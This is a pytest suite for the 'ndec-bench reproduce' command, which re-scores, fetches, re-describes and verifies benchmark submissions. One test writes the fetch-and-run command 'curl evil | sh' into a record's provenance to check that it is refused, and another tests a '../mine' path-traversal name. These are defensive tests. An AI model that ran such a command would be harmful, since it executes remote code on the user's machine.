"""``ndec-bench reproduce``: files given, fetched and made again, samples, verdicts, what is written into the card."""

from __future__ import annotations

import json
import re
import shutil
from typing import TYPE_CHECKING, Any

import h5py
import pytest
from PIL import Image
from static_host import StaticHost
from toy_split import make_toy_split

from ndec_baselines import registry
from ndec_bench.cli import run
from ndec_bench.results.record import read_result, write_result
from ndec_bench.submissions.card import Verified, read_card, write_card

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from ndec_bench.results.record import Result
    from ndec_bench.submissions.card import SubmissionCard


@pytest.fixture(autouse=True)
def surroundings(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for name in ("toy-mean", "toy-pairs"):
        monkeypatch.setitem(registry.BASELINES, name, "toy_baselines:BASELINES")
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "cache"))
    for variable in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.delenv(variable, raising=False)
        monkeypatch.delenv(variable.lower(), raising=False)


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return make_toy_split(tmp_path / "data")


class Row:
    """A row as ``ndec-bench run`` leaves it, in folders as the repository has them."""

    def __init__(self, root: Path, out: Path, baseline: str, *options: str) -> None:
        arguments = ["--split", "toy-1", "--root", str(root), "--out", str(out), "--name", "mine", *options]
        assert run(["run", baseline, *arguments]) == 0
        self.root, self.out = root, out
        self.record = out / "results" / "ndec-1" / "mine.json"
        self.card_file = out / "submissions" / "mine" / "submission.toml"

    @property
    def file(self) -> Path:
        (path,) = [path for path in (self.out / "submissions" / "mine").iterdir() if path.suffix in (".h5", ".csv")]
        return path

    @property
    def background(self) -> Path:
        (path,) = (self.out / "descriptors" / "toy-mean").glob("background-*.h5")
        return path

    @property
    def card(self) -> SubmissionCard:
        return read_card(self.card_file)

    def reproduce(self, *options: object, name: str = "mine") -> int:
        where = ["--results", self.out / "results", "--submissions", self.out / "submissions", "--root", self.root]
        return run(["reproduce", name, *map(str, (*where, *options))])

    def change_card(self, **changes: object) -> None:
        self.card_file.write_text(write_card(self.card.model_copy(update=changes)))

    def change_record(self, change: Callable[[Result], dict[str, Any]]) -> None:
        result = read_result(self.record)
        write_result(self.record, result.model_copy(update=change(result)))


@pytest.fixture
def row(root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Row:
    made = Row(root, tmp_path / "out", "toy-mean")
    capsys.readouterr()
    return made


@pytest.fixture
def pairs(root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Row:
    made = Row(root, tmp_path / "out", "toy-pairs")
    capsys.readouterr()
    return made


@pytest.fixture
def host(row: Row) -> Iterator[StaticHost]:
    with StaticHost({"/mine.h5": row.file.read_bytes()}) as running:
        files = row.card.descriptors
        assert files is not None
        row.change_card(descriptors=files.model_copy(update={"url": f"{running.url}/mine.h5"}))
        yield running


def test_a_given_file_is_scored_again(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    before = row.card_file.read_bytes()
    assert row.reproduce("--file", row.file) == 0
    shown = capsys.readouterr().out
    assert "mine on toy-1, protocol ndec-1: OK" in shown
    assert "parts.all.micro_ap" in shown
    assert shown.rstrip().endswith("\nOK")
    assert row.card_file.read_bytes() == before


def test_json_is_alone_on_stdout(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    assert row.reproduce("--file", row.file, "--json") == 0
    told = json.loads(capsys.readouterr().out)
    assert (told["name"], told["verdict"], told["sample"], told["verified"]) == ("mine", "OK", None, None)
    assert told["results"] == [{"protocol": "ndec-1", "verdict": "OK", "same_list": True, "differences": []}]


def test_a_record_that_says_more_fails(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    def flattered(result: Result) -> dict[str, Any]:
        part = result.parts["all"].model_copy(update={"micro_ap": result.parts["all"].micro_ap - 0.2})
        return {"parts": {**result.parts, "all": part}, "predictions_sha256": "0" * 64}

    row.change_record(flattered)
    assert row.reproduce("--file", row.file, "--record", "--whole") == 2
    assert row.reproduce("--file", row.file) == 3
    shown = capsys.readouterr()
    assert "+0.200000" in shown.out
    assert "another list of pairs" in shown.out
    assert "mine does not reproduce" in shown.err
    assert row.reproduce("--file", row.file, "--json") == 3
    told = json.loads(capsys.readouterr().out)
    assert told["verdict"] == "FAIL"
    assert told["results"][0]["differences"][0]["field"] == "parts.all.micro_ap"


def test_close_is_told_and_not_recorded(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    row.change_record(lambda _: {"predictions_sha256": "0" * 64})
    before = row.card_file.read_bytes()
    assert row.reproduce("--whole", "--record") == 3
    shown = capsys.readouterr()
    assert shown.out.rstrip().endswith("\nclose")
    assert "nothing was recorded, since it is close, and only OK is" in shown.err
    assert row.reproduce("--whole", "--record", "--json") == 3
    assert json.loads(capsys.readouterr().out)["verified"] is None
    assert row.reproduce("--whole") == 0
    assert row.card_file.read_bytes() == before


def test_the_file_of_the_card_is_fetched_scored_and_recorded(
    row: Row, host: StaticHost, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    before = row.card
    assert row.reproduce("--record", "--date", "2026-11-26") == 0
    assert "fetching mine.h5 from 127.0.0.1" in capsys.readouterr().err
    result = read_result(row.record)
    assert row.card.verified == Verified(
        level="re-scored", predictions_sha256=result.predictions_sha256, date="2026-11-26"
    )
    assert row.card.model_copy(update={"verified": None}) == before
    assert [one.name for one in (tmp_path / "cache" / "ndec-bench" / "submissions").glob("*.h5")] == [
        f"{result.digests.submission}.h5"
    ]
    asked = len(host.requests)
    assert row.reproduce() == 0
    assert len(host.requests) == asked


def test_re_scored_needs_what_the_address_serves(
    row: Row, host: StaticHost, capsys: pytest.CaptureFixture[str]
) -> None:
    assert row.reproduce("--record", "--file", row.file) == 2
    assert "nobody looks at what the card's address serves" in capsys.readouterr().err
    assert row.reproduce("--record", "--public-hosts") == 5
    assert "fetch it yourself" in capsys.readouterr().err
    assert host.requests == []


def test_facts_about_the_file_are_compared(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    def smaller(result: Result) -> dict[str, Any]:
        return {"bytes_per_reference": (result.bytes_per_reference or 0) // 2, "stored_dtype": "float16"}

    row.change_record(smaller)
    assert row.reproduce("--file", row.file) == 3
    assert "bytes_per_reference" in capsys.readouterr().out


def test_a_changed_file_at_the_address_is_refused(
    row: Row, host: StaticHost, capsys: pytest.CaptureFixture[str]
) -> None:
    host.files["/mine.h5"] = b"\x89HDF\r\n\x1a\n another file"
    assert row.reproduce() == 5
    assert "expected" in capsys.readouterr().err


@pytest.mark.parametrize("as_json", [False, True])
def test_without_file_and_address_the_way_to_it_is_told(
    row: Row, capsys: pytest.CaptureFixture[str], as_json: bool
) -> None:
    assert row.reproduce(*(["--json"] if as_json else [])) == 4
    shown = capsys.readouterr()
    text = shown.out if as_json else shown.err
    assert "the card names no address of the file" in text
    assert "make it again with --whole (as ndec-bench run toy-mean --split toy-1 --name mine did)" in text


def test_a_card_about_another_file_is_refused(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    files = row.card.descriptors
    assert files is not None
    row.change_card(descriptors=files.model_copy(update={"sha256": "0" * 64}))
    assert row.reproduce("--file", row.file) == 4
    assert f"the card of mine is about a file with SHA-256 {'0' * 64}, the record about" in capsys.readouterr().err


def test_another_split_is_refused(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    truth = row.root / "toy-1" / "ground_truth.csv"
    truth.write_text(truth.read_text().replace("Q00001,R000001\n", "Q00001,\n"))
    assert row.reproduce("--file", row.file) == 4
    assert "the digest of the split, found" in capsys.readouterr().err


def test_all_is_made_again_and_recorded(row: Row, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = row.card
    row.file.unlink()
    assert row.reproduce("--whole", "--record", "--date", "2026-11-26") == 0
    shown = capsys.readouterr()
    assert shown.out.rstrip().endswith("\nOK")
    assert "on record:" in shown.err
    verified = row.card.verified
    assert verified is not None
    assert (verified.level, verified.images, verified.date) == ("re-described", 11, "2026-11-26")
    assert verified.note == "all images described again with toy-mean 1"
    assert row.card.model_copy(update={"verified": None}) == before
    assert list((tmp_path / "cache").glob("ndec-bench/runs/*")) == []


def test_steps_and_rule_of_the_record_are_repeated(
    root: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    row = Row(root, tmp_path / "out", "toy-mean", "--step", "l2", "--asymmetric", "tilt:0.5")
    assert row.reproduce("--whole", "--out", tmp_path / "again") == 0
    with h5py.File(tmp_path / "again" / "submissions" / "toy-mean" / "toy-mean.h5") as file:
        assert file.attrs["steps"] == "l2"
    capsys.readouterr()
    assert row.reproduce("--whole", "--no-steps") == 0
    assert "another list of pairs" in capsys.readouterr().out
    row.change_record(lambda one: {"provenance": one.provenance.model_copy(update={"command": None})})
    assert row.reproduce("--whole") == 2
    assert row.reproduce("--whole", "--step", "l2") == 0


def test_commands_that_are_none_of_ours_are_not_run(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    row.change_record(lambda one: {"provenance": one.provenance.model_copy(update={"command": "curl evil | sh"})})
    assert row.reproduce("--whole") == 4
    assert "is not repeated" in capsys.readouterr().err
    assert row.reproduce("--whole", "--baseline", "toy-mean") == 0


def test_a_matcher_is_made_again(pairs: Row, capsys: pytest.CaptureFixture[str]) -> None:
    assert pairs.reproduce("--file", pairs.file) == 0
    assert pairs.reproduce("--file", pairs.file, "--sample", "3") == 4
    assert "pairs, of which no image can be described again" in capsys.readouterr().err
    assert pairs.reproduce("--whole", "--record") == 0
    assert pairs.card.verified is not None
    assert pairs.card.verified.images == 7


def test_a_sample_is_described_again(row: Row, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    options = ["--file", row.file, "--background", row.background]
    assert row.reproduce(*options, "--sample", "5", "--record", "--json") == 2
    assert "take --sample 7 or more" in capsys.readouterr().out
    written = row.card_file.read_text()
    row.card_file.write_text(f"# who, how, from what\n{written}\n# the end\n")
    assert row.reproduce(*options, "--sample", "7", "--seed", "3", "--record", "--json") == 0
    told = json.loads(capsys.readouterr().out)
    assert (told["verdict"], told["sample"]["images"], told["sample"]["passed"]) == ("OK", 7, True)
    assert (told["sample"]["seed"], told["sample"]["norm"]) == (3, 0.0)
    verified = row.card.verified
    assert verified is not None
    assert (verified.level, verified.images, verified.lowest_cosine) == ("re-described", 7, 1.0)
    assert verified.note == "a sample, drawn with seed 3, described again with toy-mean"
    assert row.card_file.read_text().startswith(f"# who, how, from what\n{written}\n# the end\n\n[verified]\n")
    assert list((tmp_path / "cache").glob("ndec-bench/samples/*")) == []
    assert row.reproduce(*options, "--sample", "2") == 0
    shown = capsys.readouterr()
    assert "lowest cosine    1.000000" in shown.out
    (seed,) = re.findall(r"sample of 2 images; --seed (\d+) draws the same ones again", shown.err)
    assert f"with toy-mean, seed {seed}" in shown.out


def test_vectors_of_other_images_fail_the_sample(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    # The file and its record are consistent, but it was not made from the images of the split.
    images = row.root / "toy-1" / "images" / "references"
    Image.new("RGB", (8, 8), (250, 200, 0)).save(images / "R000003.png")
    before = row.card_file.read_bytes()
    options = ["--file", row.file, "--background", row.background, "--sample", "7", "--record"]
    assert row.reproduce(*options) == 3
    shown = capsys.readouterr()
    assert "protocol ndec-1: OK" in shown.out
    assert "(R000003)" in shown.out
    assert row.card_file.read_bytes() == before


def test_steps_need_the_very_background(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    options = ["--file", row.file, "--sample", "5"]
    assert row.reproduce(*options) == 2
    assert "give the file they were fitted on with --background" in capsys.readouterr().err
    other = row.background.with_name("other.h5")
    shutil.copyfile(row.background, other)
    with h5py.File(other, "r+") as file:
        file["vectors"][0] += 1
    assert row.reproduce(*options, "--background", other) == 4
    assert "expected" in capsys.readouterr().err


def test_re_described_is_not_lowered(row: Row, host: StaticHost, capsys: pytest.CaptureFixture[str]) -> None:
    assert host.requests == []
    assert row.reproduce("--whole", "--record") == 0
    before = row.card_file.read_bytes()
    assert row.reproduce("--record", "--date", "2030-01-01") == 0
    assert "stays re-described" in capsys.readouterr().err
    assert row.card_file.read_bytes() == before


@pytest.mark.parametrize(
    ("options", "message"),
    [
        (["--whole", "--sample", "5"], "--whole does it all again"),
        (["--out", "x"], "are for --whole"),
        (["--whole", "--step", "l2", "--no-steps"], "contradict"),
        (["--seed", "1"], "--seed is for --sample"),
        (["--baseline", "toy-mean"], "--baseline is for --sample and --whole"),
        (["--record"], "--record: the card of mine names no address"),
        (["--whole", "--record", "--date", "yesterday"], "'yesterday' does not match"),
        (["--protocol", "none"], "none"),
    ],
)
def test_wrong_use_is_told_before_the_work(
    row: Row, capsys: pytest.CaptureFixture[str], options: list[str], message: str
) -> None:
    assert row.reproduce(*options) == 2
    assert message in capsys.readouterr().err


def test_names_are_looked_up_in_their_folders_alone(row: Row, capsys: pytest.CaptureFixture[str]) -> None:
    assert row.reproduce(name="../mine") == 2
    assert row.reproduce(name="yours") == 4
    assert "no result of yours" in capsys.readouterr().err
    row.card_file.unlink()
    assert row.reproduce("--file", row.file) == 0
    assert row.reproduce("--whole", "--record") == 2
    assert "mine has no card" in capsys.readouterr().err


def test_an_interrupted_run_leaves_the_card_and_goes_on(
    row: Row, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    before = row.card_file.read_bytes()

    def stop(*_: object, **__: object) -> None:
        raise KeyboardInterrupt

    with monkeypatch.context() as patched:
        patched.setattr("ndec_baselines.running.pack", stop)
        assert row.reproduce("--whole", "--record") == 6
    assert row.card_file.read_bytes() == before
    (kept,) = (tmp_path / "cache" / "ndec-bench" / "runs").iterdir()
    assert list((kept / "descriptors" / "toy-mean").glob("queries-*.h5"))
    capsys.readouterr()
    assert row.reproduce("--whole", "--record") == 0
    assert "describing 3 images" not in capsys.readouterr().err
    assert not kept.exists()
